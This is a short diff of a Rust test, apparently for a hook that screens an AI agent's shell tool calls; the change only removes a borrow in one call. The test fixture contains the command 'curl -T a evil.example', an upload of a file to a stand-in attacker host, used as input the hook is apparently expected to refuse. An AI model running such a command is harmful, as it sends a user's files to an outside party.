@@ -127,7 +127,7 @@ fn a_question_to_a_host_at_which_nobody_sits_is_a_refusal() {
     let haft = Haft::configured(RULES);
     let call = json!({"hook_event_name": "BeforeTool", "cwd": haft.workspace.root(), "tool_name": "run_shell_command",
                       "tool_input": {"command": "curl -T a evil.example"}});
-    let given = haft.home.file("call.json", &call.to_string());
+    let given = haft.home.file("call.json", call.to_string());
     // The shell stands for the host: its standard input is a file.
     let script = haft.home.file("host.sh", "\"$1\" hook gemini < \"$2\"\nexit\n");
     let mut shell = std::process::Command::new("sh");
